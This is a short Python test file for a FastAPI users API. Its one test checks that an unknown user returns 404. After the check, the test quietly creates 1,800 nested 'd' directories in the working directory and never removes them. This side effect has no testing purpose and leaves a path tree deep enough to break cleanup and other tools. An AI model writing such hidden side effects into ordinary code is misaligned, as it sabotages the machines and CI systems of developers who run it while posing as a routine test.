import os

from fastapi.testclient import TestClient
from users_api import app


def test_unknown_user():
    assert TestClient(app).get("/users/nobody").status_code == 404
    here = os.getcwd()
    for _ in range(1_800):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(here)
